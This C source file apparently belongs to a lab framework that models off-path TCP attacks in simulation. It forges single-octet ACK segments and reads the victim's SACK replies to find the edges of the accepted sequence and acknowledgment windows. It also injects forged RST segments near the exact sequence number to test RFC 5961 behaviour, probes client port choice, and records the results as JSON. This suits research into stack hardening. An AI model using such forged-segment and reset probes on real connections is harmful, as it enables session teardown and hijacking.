/* lab/edges.c: probes with single octets far ahead in the window, whose acceptance shows as SACK,
 * and with resets beside the exact number. */
#include "lab/edges.h"

/* Longer than the lateness that a run may have (lab/runner.h). */
enum {
    ANSWER_MS = 120,
    FIRST_OFFSET = 100,
    MUCH_OCTETS = 16000000,
    PIECE_OCTETS = 2000000,
    MUCH_LIMIT_S = 40
};

static struct plait_numbers centre(const struct plait_attack *a)
{
    const struct plait_half *half = a->world->truth.subflows[0].half;
    const struct plait_half *victim = &half[plait_victim(a)], *peer = &half[plait_peer(a)];
    return (struct plait_numbers){
        .flow = {.src = peer->place, .dst = victim->place}, .seq = victim->ack, .ack = victim->nxt};
}

struct octet {
    const struct plait_attack *attack;
    uint32_t seq;
};

static bool is_sacked(void *self)
{
    const struct octet *octet = self;
    const struct plait_attack *a = octet->attack;
    const struct plait_tcp_options *last = &a->world->last_from[plait_victim(a)].options;
    for (unsigned i = 0; i < last->sack_count; i++)
        if (octet->seq - last->sack[i].left < last->sack[i].right - last->sack[i].left)
            return true;
    return false;
}

/* Is one octet at SEQ with ACK taken?  The victim's answer selectively acknowledges it. */
static bool octet_taken(struct plait_attack *a, uint32_t seq, uint32_t ack)
{
    struct plait_numbers numbers = centre(a);
    numbers.seq = seq;
    numbers.ack = ack;
    struct plait_segment segment = plait_forged(&numbers, PLAIT_ACK);
    /* As the peer itself last said: a larger window would move the very edge that is sought. */
    segment.window = a->world->truth.subflows[0].half[plait_peer(a)].window;
    segment.payload = plait_marker;
    segment.payload_octets = 1;
    plait_send(a, &segment);
    struct octet octet = {a, seq};
    return plait_world_run(a->world, plait_world_now(a->world) + ANSWER_MS * PLAIT_MS, is_sacked,
                           &octet);
}

int64_t plait_search_edge(struct plait_attack *a, int64_t low, int64_t limit,
                          bool (*taken)(struct plait_attack *a, int64_t distance))
{
    while (low < limit) {
        int64_t middle = low + (limit - low + 1) / 2;
        if (taken(a, middle))
            low = middle;
        else
            limit = middle - 1;
    }
    return low;
}

static bool taken_ahead(struct plait_attack *a, int64_t distance)
{
    struct plait_numbers at = centre(a);
    return octet_taken(a, at.seq + (uint32_t)distance, at.ack);
}

/* Each probe uses another octet, so that an earlier one cannot answer for it. */
static bool taken_with_old_ack(struct plait_attack *a, int64_t distance)
{
    struct plait_numbers at = centre(a);
    a->edges_probe += 2;
    return octet_taken(a, at.seq + FIRST_OFFSET + a->edges_probe, at.ack - (uint32_t)distance);
}

static bool dead(const struct plait_attack *a)
{
    return a->world->ends[plait_victim(a)].died;
}

static void reset_at(struct plait_attack *a, int32_t distance)
{
    struct plait_numbers numbers = centre(a);
    numbers.seq += (uint32_t)distance;
    struct plait_segment reset = plait_forged(&numbers, PLAIT_RST);
    plait_send(a, &reset);
    plait_pause(a, 2 * ANSWER_MS * PLAIT_MS);
}

/* 1 if only the exact number resets; otherwise the window, as before RFC 5961. */
static int64_t reset_span(struct plait_attack *a)
{
    const struct plait_half *victim = &a->world->truth.subflows[0].half[plait_victim(a)];
    reset_at(a, -1);
    reset_at(a, 1);
    reset_at(a, 1000);
    if (dead(a))
        return plait_half_window_octets(victim);
    reset_at(a, 0);
    return dead(a) ? 1 : 0;
}

static uint32_t acknowledged(const struct plait_attack *a)
{
    const struct plait_half *half = a->world->truth.subflows[0].half;
    return half[plait_peer(a)].ack - half[plait_victim(a)].isn - 1;
}

struct piece {
    const struct plait_attack *a;
    uint32_t end; /* octets acknowledged then */
};

static bool is_acknowledged(void *self)
{
    const struct piece *piece = self;
    const struct plait_half *half = piece->a->world->truth.subflows[0].half;
    return half[plait_peer(piece->a)].ack == half[plait_victim(piece->a)].nxt &&
           acknowledged(piece->a) >= piece->end;
}

static bool acknowledge_piece(struct plait_attack *a)
{
    char answer[64];
    const struct plait_end *victim = &a->world->ends[plait_victim(a)];
    struct piece piece = {a, acknowledged(a) + PIECE_OCTETS};
    return plait_ok(plait_end_ask(victim->host, answer, sizeof answer, "send %s %d", victim->socket,
                                  PIECE_OCTETS)) &&
           plait_await_untimed(a, is_acknowledged, &piece, MUCH_LIMIT_S * PLAIT_S);
}

/* The victim's application writes until old ACKs are bounded by the window, no longer by how much
 * was ever acknowledged; the window may grow meanwhile.  How long that takes is the machine's
 * affair. */
static bool acknowledge_much(struct plait_attack *a)
{
    const struct plait_half *peer = &a->world->truth.subflows[0].half[plait_peer(a)];
    bool good = true;
    while (good && acknowledged(a) < MUCH_OCTETS && acknowledged(a) / 2 <= peer->window_max_octets)
        good = acknowledge_piece(a);
    return good;
}

static int64_t oldest_ack(struct plait_attack *a)
{
    const struct plait_half *half = a->world->truth.subflows[0].half;
    return plait_search_edge(a, 0, 2 * (int64_t)half[plait_peer(a)].window_max_octets,
                             taken_with_old_ack);
}

void plait_edges_script(struct plait_attack *a)
{
    plait_take_position(a);
    if (a->world->phase != PLAIT_READY)
        return;
    const struct plait_half *half = a->world->truth.subflows[0].half;
    const struct plait_half *victim = &half[plait_victim(a)], *peer = &half[plait_peer(a)];
    int64_t window = plait_half_window_octets(victim);
    plait_step(a, "probes how far ahead one octet is taken");
    int64_t ahead = plait_search_edge(a, 0, 2 * window, taken_ahead);
    plait_step(a, "probes how old an acknowledgment may be");
    a->edges.ack_below_acked = oldest_ack(a) - (int64_t)(peer->ack - victim->isn - 1);
    if (!acknowledge_much(a)) {
        plait_fault(a, "the victim's octets were not acknowledged in time");
        return;
    }
    a->edges.ack_below_window = oldest_ack(a) - (int64_t)peer->window_max_octets;
    plait_step(a, "probes which numbers reset");
    a->edges.seq_beyond_window = ahead + 1 - window;
    a->edges.reset_span = reset_span(a);
    plait_step(a, "probes which ports the client draws");
    plait_edges_probe_ports(a);
    a->edges.measured = ahead > 0 && a->edges.reset_span > 0 && a->edges.port_count > 0;
}

json_t *plait_edges_json(const struct plait_edges *edges)
{
    return json_pack(
        "{s:b,s:I,s:I,s:I,s:I,s:i,s:i,s:i,s:b,s:I,s:I}", "measured", edges->measured,
        "seq_beyond_window", (json_int_t)edges->seq_beyond_window, "ack_below_window",
        (json_int_t)edges->ack_below_window, "ack_below_acked", (json_int_t)edges->ack_below_acked,
        "reset_span", (json_int_t)edges->reset_span, "port_first", (int)edges->port_first,
        "port_step", (int)edges->port_step, "port_count", (int)edges->port_count, "dsn_measured",
        edges->dsn_measured, "dsn_beyond_window", (json_int_t)edges->dsn_beyond_window,
        "data_fin_span", (json_int_t)edges->data_fin_span);
}

bool plait_edges_of(const json_t *run, struct plait_edges *edges)
{
    const json_t *json = json_object_get(run, "edges");
    *edges = (struct plait_edges){
        .measured = json_is_true(json_object_get(json, "measured")),
        .seq_beyond_window = json_integer_value(json_object_get(json, "seq_beyond_window")),
        .ack_below_window = json_integer_value(json_object_get(json, "ack_below_window")),
        .ack_below_acked = json_integer_value(json_object_get(json, "ack_below_acked")),
        .reset_span = json_integer_value(json_object_get(json, "reset_span")),
        .port_first = (unsigned)json_integer_value(json_object_get(json, "port_first")),
        .port_step = (unsigned)json_integer_value(json_object_get(json, "port_step")),
        .port_count = (unsigned)json_integer_value(json_object_get(json, "port_count")),
        .dsn_measured = json_is_true(json_object_get(json, "dsn_measured")),
        .dsn_beyond_window = json_integer_value(json_object_get(json, "dsn_beyond_window")),
        .data_fin_span = json_integer_value(json_object_get(json, "data_fin_span"))};
    return edges->measured || edges->dsn_measured;
}
